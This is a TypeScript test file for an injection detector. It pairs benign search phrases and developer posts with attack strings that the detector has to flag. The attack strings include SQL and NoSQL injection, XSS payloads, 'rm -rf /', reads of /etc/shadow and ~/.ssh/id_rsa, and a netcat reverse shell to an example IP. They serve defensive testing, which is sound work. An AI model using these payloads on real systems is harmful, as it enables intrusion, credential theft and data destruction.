import { describe, expect, it } from 'vitest';
import { InjectionDetector } from '../../src/security/injection-detector.js';
import { carriersFlagging } from './carriers.js';

// Held-out set 7 classes (seen): SQL and shell words used as ordinary English in searches and posts,
// markdown fences at a parameter's or JSON string's start, and the attack spellings set 7 missed.
// Both sides of each class, with values written for these tests (none taken from the set): each
// exemption's attack side is a working payload wrapped the same way, which stays reported.
const d = new InjectionDetector();
const score = (v: string) => d.score(v).score;

const carriers = (v: string) => carriersFlagging(d, v);

describe('search words of SQL and shell as English', () => {
  it.each([
    'waitfor delay stored procedure docs',
    'waitfor delay azure functions 2025',
    'chmod -R explained for dummies -pinterest',
    'grep -v meaning',
    'tar -xzf syntax 2024',
    'kill -9 tutorial (us)',
    'salt & pepper shaker & more',
    'copy & paste',
    'rock 50% off & more',
    'q & a & more',
  ])('clean everywhere: %s', (v) => {
    expect(score(v)).toBeLessThan(5);
    expect(carriers(v)).toEqual([]);
  });
  it.each([
    "1; waitfor delay '0:0:7'--",
    "'; waitfor time '23:59'--",
    'chmod -R 777 /',
    'grep -v',
    'rm -rf / explained',
    'nc -e /bin/sh 203.0.113.9 9001 meaning',
    'cat ~/.ssh/id_rsa tutorial',
    'x & more /etc/shadow',
    'x && more',
    'x&more',
    'x & reboot',
    "x' & more",
  ])('attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
});

describe('a JS call that the next words leave unparseable', () => {
  it.each(['prompt() blocked by firefox', 'confirm() does nothing on safari', 'alert(1) shows twice on mobile'])('clean: %s', (v) => {
    expect(score(v)).toBeLessThan(5);
    expect(carriers(v)).toEqual([]);
  });
  it.each([
    "';prompt(1);blocked by firefox",
    'confirm(1)//does nothing',
    'alert(1)\nshows twice',
    'alert(1) in window',
    '<script>prompt() blocked by firefox</script>',
    'javascript:confirm() does nothing',
    '" onfocus="alert() shows twice',
    "';alert(document.domain)//",
  ])('attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
});

describe('code quoted in developer posts', () => {
  it.each([
    "Seeing `ERROR 1064: check the manual for the right syntax` near 'GROUP BY day LIMIT 5' on 8.0, why?",
    'Bash 5: `find . -name "*.log" -delete` removes nothing. any idea?',
    'Go: `exec.Command("ls", "-l").Run()` — how do I read stdout?',
    'Ruby: `system("ls -l")` – is backticks faster?',
  ])('clean: %s', (v) => {
    expect(carriers(v)).toEqual([]);
  });
  it.each([
    "syntax error near '' union select login, pass from accounts--",
    "error near 'x' or 1=1--",
    "x 5: `id' or '1'='1` ok",
    '5: `;id` ok',
    'Go: `;cat /etc/passwd` — why?',
    'x 7: `;id` ok',
    'Go: `|id` – why?',
  ])('attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
});

describe('markdown fences at a parameter or JSON string start', () => {
  // lead: a fence at a parameter's start holding a command separator is read as code in a query or form (a shell runs
  // a fence's lines, and backticks are a substitution: `q=```\nx& whoami\n```` ran); a JSON string's start keeps the
  // older exemption of a fence at a value's start
  it('a separator inside: reported in a query and a form, not in JSON', () => {
    expect(carriers('```sh\nls -la | wc -l\n```\nThanks all.')).toEqual(['query', 'form']);
  });
  it.each([
    '```sh\nls -la\n```\nThanks all.',
    '```\nSELECT a FROM t WHERE b = 1\n```\nFixed it.',
    '```\nUPDATE t SET a = 1; DELETE FROM t;\n```\nFixed it.',
    '```js\nlet y = a || b;\n```\nFrom the guide.',
  ])('clean: %s', (v) => {
    expect(carriers(v)).toEqual([]);
  });
  it.each(['```\nx\n```\n;id', '```\nok\n```\n&& cat /etc/passwd', '```\nk=1\n```\n&q=1;id'])('attack: %s', (v) => {
    expect(carriers(v)).toEqual(['query', 'form', 'json']);
  });
});

describe('attack spellings', () => {
  it.each([
    '12) OR (3=3',
    "5') or ('x'='x",
    '42 OR true',
    'q=7 or true',
    '7 UNUNIONION SESELECTLECT pwd FRFROMOM admins',
    '1 UNIunionON SELselectECT 1',
    ';{ls,-la,/}',
    '|{cat,/etc/issue}',
    "';return 1==1;var z='",
  ])('attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
  it("a '$where' payload with an encoded space is one parameter of a form body", () => {
    expect(carriers("';return 1==1;var z='")).toEqual(['query', 'form', 'json']);
  });
  it.each(['true or false', '1 or 2 people', '42 or truer', 'a union of unions', 'selected or unselected', 'from fromage', 'pets: {cat,dog}', 'x;{cat,dog}'])('clean: %s', (v) => {
    expect(score(v)).toBeLessThan(5);
  });
});
